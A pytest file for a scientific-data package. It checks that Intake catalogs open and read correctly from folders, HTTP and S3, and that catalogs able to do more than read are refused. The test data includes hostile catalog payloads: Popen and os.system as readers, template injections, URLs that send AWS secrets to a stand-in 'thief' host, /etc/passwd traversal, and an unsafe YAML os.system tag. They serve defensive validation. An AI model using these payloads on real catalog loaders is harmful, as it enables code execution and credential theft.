"""Catalogs as readers see them: with Intake alone, and with `scidata.open_catalog`."""

import gzip
import io
import json
import lzma
import os
import shutil
import subprocess
import sys
import venv
from collections.abc import Iterator
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from scidata.catalog import MAX_CATALOG_BYTES, open_catalog
from scidata.catalog.founding import EARTHQUAKES, plan_public_catalogs, write_public_catalogs
from scidata.catalog.rules import catalog_problems
from scidata.digest import Digest
from scidata.errors import IntegrityError, InvalidError, NotFoundError, StorageError
from scidata.formats.founding import AWS
from scidata.formats.intake import version_catalog
from scidata.formats.text import to_yaml
from scidata.index import rebuild
from scidata.storage import open_store
from tests.records import facts_of, full_record
from tests.samples import SAMPLES
from tests.servers import (
    aws_environment,
    create_bucket,
    create_public_object,
    folder_server,
)
from tests.versions import write_version

ROOT = Path(__file__).parent.parent
LIBRARIES = (
    "xarray",
    "zarr",
    "s3fs",
    "pandas",
    "pyarrow",
    "aiohttp",
    "h5netcdf",
    "h5py",
    "pystac",
)
Document = dict[str, Any]  # Any: YAML at the edge


@pytest.fixture
def store(staged: Path, tmp_path: Path) -> Path:
    """A store in a folder, with two versions and catalogs."""
    opened = open_store(tmp_path / "store")
    write_version(opened, staged, "1.0.0")
    write_version(opened, staged, "1.1.0", parent="1.0.0")
    rebuild(opened)
    return tmp_path / "store"


@pytest.fixture(scope="session")
def plain_python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Python of an environment with Intake and readers, and without scidata."""
    folder = tmp_path_factory.mktemp("plain") / "env"
    venv.create(folder, with_pip=True)
    python = folder / "bin" / "python"
    wanted = ["intake==2.0.9", *(f"{name}=={version(name)}" for name in LIBRARIES)]
    install = [str(python), "-m", "pip", "install", "--quiet", *wanted]
    done = subprocess.run(install, capture_output=True, text=True, check=False)
    if done.returncode:
        pytest.skip(f"Intake cannot be installed alone: {done.stderr.strip()[-200:]}")
    return python


def read_plainly(python: Path, what: str, url: str, *options: str) -> Document:
    """Return what Intake alone sees."""
    program = Path(__file__).with_name("plain_readers.py")
    # Away from the checkout: the current folder would be importable.
    done = subprocess.run(
        [python, program, what, url, *options],
        cwd=python.parent,
        env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    seen: Document = json.loads(done.stdout)
    return seen


def judge(seen: Document) -> None:
    """Compare with what was published."""
    assert seen["datasets"] == ["tiny"]
    assert {"array", "table", "statistics", "v1.0.0", "v1.1.0"} < set(seen["entries"])
    assert seen["pinned"] == seen["newest"]  # the same data under two numbers
    newest = seen["newest"]
    assert newest["wave"][0] == [SAMPLES, 3, 64]
    assert newest["units"] == "1"
    assert newest["table"] == [["sample", "frequency"], SAMPLES]
    assert newest["train"] == [f"{n:04d}" for n in range(16)]
    assert newest["statistics"] == "scidata-statistics/1"


@pytest.mark.slow
def test_intake_alone_reads_a_store_in_a_folder(plain_python: Path, store: Path) -> None:
    judge(read_plainly(plain_python, "store", str(store / "index.yaml")))


@pytest.mark.slow
def test_intake_alone_reads_a_store_over_http(
    plain_python: Path, store: Path, http_folder: tuple[str, Path]
) -> None:
    url, folder = http_folder
    store.rename(folder / "store")
    judge(read_plainly(plain_python, "store", f"{url}/store/index.yaml"))


@pytest.fixture
def s3_store(staged: Path, s3_url: str) -> str:
    """A store on S3, with two versions and catalogs."""
    opened = open_store(s3_url)
    write_version(opened, staged, "1.0.0")
    write_version(opened, staged, "1.1.0", parent="1.0.0")
    rebuild(opened)
    return s3_url


@pytest.mark.slow
def test_intake_alone_reads_a_store_on_s3(plain_python: Path, s3_store: str) -> None:
    judge(read_plainly(plain_python, "store", f"{s3_store}/index.yaml"))


@pytest.mark.slow
def test_intake_alone_reads_a_public_store_on_s3_without_credentials(
    plain_python: Path, s3_store: str, s3_endpoint: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened = open_store(s3_store)
    public = f"public-{s3_store.split('/')[2]}"
    create_bucket(s3_endpoint, public)
    for key in [found.key for found in opened.list()]:
        create_public_object(s3_endpoint, public, f"store/{key}", opened.read(key))
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.delenv(name)
    options = {"anon": True, "endpoint_url": s3_endpoint}
    url = f"s3://{public}/store/index.yaml"
    judge(read_plainly(plain_python, "store", url, json.dumps(options)))


@pytest.mark.slow
@pytest.mark.parametrize("where", ["folder", "http", "s3"])
def test_pystac_alone_reads_a_store_from_everywhere(
    where: str,
    plain_python: Path,
    store: Path,
    s3_store: str,
    http_folder: tuple[str, Path],
) -> None:
    base = {"folder": str(store), "s3": s3_store}.get(where, f"{http_folder[0]}/store")
    if where == "http":
        store.rename(http_folder[1] / "store")
    seen = read_plainly(plain_python, "stac", f"{base}/catalog.json")
    assert set(seen) == {"tiny-1.0.0", "tiny-1.1.0"}
    for read in seen.values():
        assert read["wave"] == [SAMPLES, 3, 64]
        assert read["table"] == SAMPLES
        assert read["manifest"]
        assert read["collection"] == "tiny"
    assert [v["before"] for _, v in sorted(seen.items())] == [None, "tiny-1.0.0"]


@pytest.mark.parametrize("where", ["path", "file", "http", "s3"])
def test_open_catalog_reads_from_everywhere(
    where: str,
    store: Path,
    staged: Path,
    s3_url: str,
    http_folder: tuple[str, Path],
) -> None:
    base = {"path": str(store), "file": store.as_uri(), "s3": s3_url}.get(where, "")
    if where == "s3":
        write_version(open_store(s3_url), staged)
        rebuild(open_store(s3_url))
    if where == "http":
        base = f"{http_folder[0]}/store"
        store.rename(http_folder[1] / "store")
    catalog = open_catalog(f"{base}/index.yaml")
    assert list(catalog) == ["tiny"]
    dataset = catalog["tiny"].read()
    assert dataset["array"].read().wave.shape == (SAMPLES, 3, 64)
    assert len(dataset["v1.0.0"].read()["table"].read()) == SAMPLES


@pytest.mark.parametrize("where", ["a folder", "http", "s3"])
def test_each_sort_of_file_opens_by_its_entry(
    where: str,
    staged: Path,
    tmp_path: Path,
    s3_url: str,
    http_folder: tuple[str, Path],
) -> None:
    data = staged / "data"
    (data / "scene.nc").write_bytes(_scene())
    (data / "packed.csv.gz").write_bytes(gzip.compress(b"a,b\n1,2\n"))
    (data / "notes.md").write_text("# Größe\n")
    (data / "blob.bin").write_bytes(b"\0\1")
    (data / "frames").mkdir()
    (data / "frames" / "one.hdf").write_bytes(_scene())
    # A blank in the folder's name: addresses are not escaped on the way.
    places: dict[str, str | Path] = {
        "a folder": tmp_path / "my store",
        "http": http_folder[1] / "store",
        "s3": s3_url,
    }
    store = open_store(places[where])
    write_version(store, staged)
    rebuild(store)
    base = f"{http_folder[0]}/store" if where == "http" else str(places[where])
    catalog = open_catalog(f"{base}/tiny/catalog-1.0.0.yaml")
    assert catalog["scene"].read().refs.shape == (12, 15, 6)
    assert catalog["packed"].read().to_dict("list") == {"a": [1], "b": [2]}
    assert catalog["notes"].read() == "# Größe\n"
    assert catalog["blob"].read() == b"\0\1"
    assert catalog.metadata["scidata"]["without_reader"] == ["frames"]


def test_a_pinned_catalog_opens_and_any_other_digest_is_refused(store: Path) -> None:
    path = store / "tiny" / "catalog-1.0.0.yaml"
    digest = Digest.of(path.read_bytes())
    assert "array" in open_catalog(path, digest=str(digest))
    path.write_bytes(path.read_bytes().replace(b"array.zarr", b"other.zarr"))
    with pytest.raises(IntegrityError, match="expected sha256:") as caught:
        open_catalog(path, digest=digest)
    assert caught.value.damage[0].expected == str(digest)


def test_a_version_inside_a_dataset_is_pinned_without_being_asked(store: Path) -> None:
    dataset = open_catalog(store / "tiny" / "catalog.yaml")
    path = store / "tiny" / "catalog-1.0.0.yaml"
    path.write_bytes(path.read_bytes() + b"# changed\n")
    with pytest.raises(IntegrityError, match="differs"):
        dataset["v1.0.0"].read()
    assert list(dataset["v1.1.0"].read())


def attack(part: str, **changes: object) -> Document:
    """A catalog that is sound but for one place."""
    catalog: Document = version_catalog(full_record(), facts_of(full_record()))
    name = "table__data" if part == "data" else "table"
    catalog[part][name] |= changes
    return catalog


def kwargs(part: str, **changes: object) -> Document:
    """A catalog that is sound but for one setting."""
    catalog: Document = version_catalog(full_record(), facts_of(full_record()))
    name = "table__data" if part == "data" else "table"
    catalog[part][name]["kwargs"] |= changes
    return catalog


FUNC = "intake.readers.convert:GenericFunc"
ATTACKS: dict[str, Document] = {
    "a function as reader": attack("entries", reader=FUNC),
    "any class as reader": attack("entries", reader="subprocess:Popen"),
    "any class as data": attack("data", datatype="subprocess:Popen"),
    "a reader of pickles": attack(
        "entries", reader="intake.readers.readers:SKLearnModelReader"
    ),
    "pandas HDF5, which unpickles": attack(
        "entries", reader="intake.readers.readers:PandasHDF5"
    ),
    "func in a setting": kwargs("entries", columns="{func(os:getcwd)}"),
    "func in a url": kwargs("data", url="{func(os:getcwd)}"),
    "import in a url": kwargs("data", url="{import(os:getcwd)}"),
    "env in a url": kwargs(
        "data", url="https://thief.example.org/{env(AWS_SECRET_ACCESS_KEY)}"
    ),
    "options in a url": kwargs(
        "data", url="https://thief.example.org/{STORAGE_OPTIONS[secret]}"
    ),
    "options to another server": kwargs("data", url="https://thief.example.org/x.parquet"),
    "an attribute of a template": kwargs("data", url="{CATALOG_DIR.__class__}/x"),
    "a path out of the catalog": kwargs("data", url="{CATALOG_DIR}/../../etc/passwd"),
    "a local file": kwargs("data", url="file:///etc/passwd", storage_options={}),
    "a chain of protocols": kwargs("data", url="{CATALOG_DIR}/x::file:///etc/passwd"),
    "a list of urls": kwargs("data", url=["{CATALOG_DIR}/a", "/etc/passwd"]),
    "another protocol": kwargs("data", url="reference://", storage_options={}),
    "options of a file system": kwargs(
        "data", storage_options={"fo": "x", "target_protocol": "s3"}
    ),
    "options as text": kwargs("data", storage_options="{func(os:getcwd)}"),
    "cls in an entry": attack("entries", cls="subprocess:Popen"),
    "cls in data": attack("data", cls="subprocess:Popen"),
    "parameters of an entry": attack("entries", user_parameters={"x": {"cls": "os:system"}}),
    "a returned type": attack("entries", output_instance="os:system"),
    "metadata that Intake replaces": attack("entries", metadata={"a": ["{data(table)}"]}),
    "data that is not there": kwargs("entries", data="{data(other)}"),
    "data as text": kwargs("entries", data="{func(os:getcwd)}"),
    "a setting of another reader": kwargs("entries", engine="zarr"),
}


@pytest.mark.parametrize("document", ATTACKS.values(), ids=ATTACKS)
def test_a_catalog_that_could_do_more_than_read_is_refused(
    tmp_path: Path, document: Document
) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_bytes(to_yaml(document))
    with pytest.raises(InvalidError, match="is refused") as caught:
        open_catalog(path)
    # Refused for what it says, not for how the file is written.
    assert {problem.code for problem in caught.value.problems} == {"catalog"}


def test_a_store_of_the_zarr_version_that_can_hold_pickles_does_not_open(
    store: Path, tmp_path: Path
) -> None:
    import zarr

    sound: Document = version_catalog(full_record(), facts_of(full_record()))
    del sound["entries"]["array"]["kwargs"]["zarr_format"]
    (problem,) = catalog_problems(sound)
    assert problem.path == "entries.array.kwargs"
    # With the format named, xarray does not look for the other one.
    shutil.rmtree(store / "tiny/v1.0.0/data/array.zarr")
    old = zarr.open_group(store / "tiny/v1.0.0/data/array.zarr", mode="w", zarr_format=2)
    old.create_array("wave", shape=(1,), dtype="int8")
    catalog = open_catalog(store / "tiny/catalog-1.0.0.yaml")
    with pytest.raises(FileNotFoundError):
        catalog["array"].read()


def test_the_sound_catalog_of_the_attacks_opens(tmp_path: Path) -> None:
    sound = version_catalog(full_record(), facts_of(full_record()))
    (tmp_path / "catalog.yaml").write_bytes(to_yaml(sound))
    assert set(open_catalog(tmp_path / "catalog.yaml")) == set(sound["aliases"])


def test_intake_alone_would_have_run_the_function(tmp_path: Path) -> None:
    """Which is why it is refused here; if Intake stops doing so, the rules may relax."""
    import intake

    document = kwargs("data", url="{func(os:getcwd)}")
    path = tmp_path / "catalog.yaml"
    path.write_text(yaml.safe_dump(document))
    assert callable(intake.from_yaml_file(str(path))["table"].data.url)


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['touch hacked']",
        "version: !!python/name:os.system",
        "version: 2\nversion: 2",
        "a: &a [1]\nb: *a",
        "[" * 5000,
        "version: 2",
        "version: '2'",
        "- 1",
        "",
        "sources: {}",
        "\x00",
    ],
)
def test_text_that_is_no_plain_catalog_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "catalog.yaml").write_text(text)
    with pytest.raises(InvalidError):
        open_catalog(tmp_path / "catalog.yaml")
    assert not list(tmp_path.glob("hacked"))


def test_an_attack_in_a_nested_catalog_is_refused_too(store: Path) -> None:
    index = open_catalog(store / "index.yaml")
    inner = yaml.safe_load((store / "tiny/catalog.yaml").read_text())
    inner["entries"]["table"]["reader"] = FUNC
    (store / "tiny/catalog.yaml").write_bytes(to_yaml(inner))
    with pytest.raises(InvalidError, match="GenericFunc"):
        index["tiny"].read()


def test_a_huge_catalog_is_refused(tmp_path: Path) -> None:
    (tmp_path / "big.yaml").write_bytes(b"#" * (MAX_CATALOG_BYTES + 1))
    with pytest.raises(InvalidError, match="larger than"):
        open_catalog(tmp_path / "big.yaml")


def test_an_alias_that_hides_data_is_refused() -> None:
    sound: Document = version_catalog(full_record(), facts_of(full_record()))
    sound["aliases"]["table__data"] = "table"
    assert [p.path for p in catalog_problems(sound)] == ["aliases.table__data"]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)


@settings(max_examples=200)
@given(
    part=st.sampled_from(
        ["data", "entries", "aliases", "metadata", "user_parameters", "version"]
    ),
    value=JSON,
    inner=JSON,
)
def test_whatever_a_catalog_says_it_is_judged_and_never_crashes(
    part: str, value: object, inner: object
) -> None:
    document = version_catalog(full_record(), facts_of(full_record()))
    list(catalog_problems({**document, part: value}))
    for place in ("data", "entries"):
        for name in document[place]:
            item = document[place][name]
            for key in item:
                wrong = {**document[place], name: {**item, key: inner}}
                list(catalog_problems({**document, place: wrong}))
    list(catalog_problems(value))


@pytest.mark.parametrize(
    "url", ["{}/none.yaml", "http://127.0.0.1:9/none.yaml", "ftp://h/x.yaml"]
)
def test_what_cannot_be_fetched_is_one_clear_error(tmp_path: Path, url: str) -> None:
    kind = NotFoundError if url.startswith("{}") else StorageError
    with pytest.raises(InvalidError if url.startswith("ftp") else kind) as caught:
        open_catalog(url.format(tmp_path))
    assert caught.value.fix


def test_no_message_repeats_a_secret_of_the_address(http_folder: tuple[str, Path]) -> None:
    host = http_folder[0].removeprefix("http://")
    (http_folder[1] / "bad.yaml").write_text("- 1")
    for name in ("none", "bad"):
        with pytest.raises((NotFoundError, InvalidError)) as caught:
            open_catalog(f"http://me:pa55@{host}/{name}.yaml?X-Amz-Signature=5ec2e7")
        assert "pa55" not in str(caught.value)
        assert "5ec2e7" not in str(caught.value)


def test_a_missing_catalog_on_s3_is_not_found(s3_url: str) -> None:
    with pytest.raises(NotFoundError):
        open_catalog(f"{s3_url}/none.yaml")


def test_opening_no_catalog_imports_no_intake() -> None:
    program = "import sys, scidata.catalog; sys.exit('intake' in sys.modules)"
    subprocess.run([sys.executable, "-c", program], check=True)


def test_the_public_catalog_is_what_the_records_say() -> None:
    for path, data in plan_public_catalogs().items():
        file = ROOT / "catalogs" / path
        stale = f"{path} is stale: run python -m scidata.catalog catalogs"
        assert file.read_bytes() == data, stale


def test_the_public_catalog_holds_no_other_file() -> None:
    here = {str(p.relative_to(ROOT / "catalogs")) for p in _files(ROOT / "catalogs")}
    shipped = {f"tevolop/{EARTHQUAKES}", "tevolop/SOURCE.md"}
    assert here == {*plan_public_catalogs(), *shipped}


def test_what_scidata_publishes_opens_without_a_network() -> None:
    from importlib.resources import files

    catalog = open_catalog(str(files("scidata") / "catalogs" / "index.yaml"))
    table = catalog["tevolop"].read()["earthquakes-m2.5"].read()
    assert len(table) == 51891
    assert table.mag.min() == 2.5


def test_every_original_of_every_record_is_listed_with_what_is_known_of_it() -> None:
    from scidata.catalog.founding import founding_records

    catalog = open_catalog(ROOT / "catalogs" / "index.yaml")
    listed = 0
    for record in founding_records():
        inner = catalog[record.id].read()
        for original in record.originals:
            about = inner[original.name].metadata
            assert about["checksums"] == original.checksums
            assert about["license_note"] == original.license_note
            assert about["layout"] == original.layout
            listed += 1
    assert listed >= 12


def test_no_original_is_read_by_something_that_unpickles() -> None:
    catalogs = [yaml.safe_load(p.read_text()) for p in ROOT.glob("catalogs/*/catalog.yaml")]
    readers = {e["reader"].split(":")[1] for c in catalogs for e in c["entries"].values()}
    assert readers == {"OpenFilesReader", "PandasCSV"}


def test_the_public_catalog_is_valid_stac(schemas: Path) -> None:
    from pystac.validation import validate_dict

    from tests.test_formats_stac import validating_with

    with validating_with(schemas):
        for file in ROOT.glob("catalogs/**/*.json"):
            assert validate_dict(json.loads(file.read_text()))


@pytest.fixture
def originals(s3_endpoint: str, tmp_path: Path) -> Iterator[dict[str, str]]:
    """Servers laid out as the publishers', with small files; which replaces which."""
    folder = tmp_path / "web"
    _write_web(folder)
    for bucket in ("sciml-datasets", "scedc-pds"):
        create_bucket(s3_endpoint, bucket)
    for key, data in _objects().items():
        bucket, _, name = key.partition("/")
        create_public_object(s3_endpoint, bucket, name, data)
    with folder_server(folder) as url:
        yield {
            "https://s3.echo.stfc.ac.uk": s3_endpoint,
            AWS: s3_endpoint,
            "http://ftp.mcs.anl.gov": f"{url}/anl",
            "https://github.com": f"{url}/github",
        }


@pytest.mark.slow
def test_intake_alone_opens_every_original_where_it_lies(
    plain_python: Path,
    originals: dict[str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    write_public_catalogs(tmp_path / "catalogs", originals)
    shutil.copy(ROOT / "catalogs/tevolop" / EARTHQUAKES, tmp_path / "catalogs/tevolop")
    # Anonymous: nothing in the environment helps.
    for name in aws_environment(""):
        monkeypatch.delenv(name, raising=False)
    seen = read_plainly(plain_python, "originals", str(tmp_path / "catalogs" / "index.yaml"))
    count, shapes = seen["training"]
    assert count == 2
    assert shapes == {"refs": [12, 15, 6], "bts": [12, 15, 3], "bayes": [12, 15, 1]}
    assert seen["label"] == [14]
    assert seen["stack"] == [3, 8, 8]
    assert seen["response"] == [["SOURCE", "CELL", "AUC"], 1]
    assert bytes.fromhex(seen["archive"]) == b"\xfd7zXZ\x00"
    assert seen["catalogue"].startswith("1950/01/03")
    assert seen["earthquakes"] == 51891
    assert "LMDB" in seen["closed"]["not_opened"]


def test_open_catalog_opens_the_originals_with_its_rules(
    originals: dict[str, str], tmp_path: Path
) -> None:
    write_public_catalogs(tmp_path, originals)
    catalog = open_catalog(tmp_path / "index.yaml")
    assert len(catalog["cloudmask"].read()["ds1-training"].read()) == 2
    assert len(catalog["candle-uno"].read()["combo-response"].read()) == 1


def _objects() -> dict[str, bytes]:
    import numpy as np

    packed = io.BytesIO()
    np.savez(packed, data=np.zeros((3, 8, 8), "f4"), label=np.array([14]))
    prefix = "sciml-datasets/es/cloud_slstr_ds1/training/S3A_SL_1_RBT____2019100"
    return {
        f"{prefix}1T113221.hdf": _scene(),
        f"{prefix}2T113221.hdf": _scene(),
        "sciml-datasets/ms/stemdl_ds1a/training/sample-0.npz": packed.getvalue(),
        "sciml-datasets/ms/stemdl_reconst_ds1/batch_train_0.db/data.mdb": b"\0",
        "scedc-pds/earthquake_catalogs/SCEC_DC/1950.catalog": b"1950/01/03 11:26:30.04 eq\n",
    }


def _scene() -> bytes:
    import h5py  # type: ignore[import-untyped]  # ships no types
    import numpy as np

    file = io.BytesIO()
    with h5py.File(file, "w") as scene:
        for name, channels in {"refs": 6, "bts": 3, "bayes": 1}.items():
            scene[name] = np.zeros((12, 15, channels), "f4")
    return file.getvalue()


def _write_web(folder: Path) -> None:
    import h5py
    import numpy as np

    pilot = folder / "anl/pub/candle/public/benchmarks/Pilot1"
    (pilot / "uno").mkdir(parents=True)
    (pilot / "combo").mkdir()
    with h5py.File(pilot / "uno/top_21_auc_1fold.uno.h5", "w") as file:
        file["sample_0_0/cbed_stack"] = np.zeros((3, 8, 8), "f4")
    table = pilot / "combo/combined_single_response_agg"
    table.write_text("SOURCE\tCELL\tAUC\nCCLE\tA\t0.5\n")
    archive = folder / "github/laszewsk/mlcommons-data-earthquake/raw/main/data.tar.xz"
    archive.parent.mkdir(parents=True)
    archive.write_bytes(lzma.compress(b"x"))


def _files(folder: Path) -> Iterator[Path]:
    return (p for p in folder.rglob("*") if p.is_file())
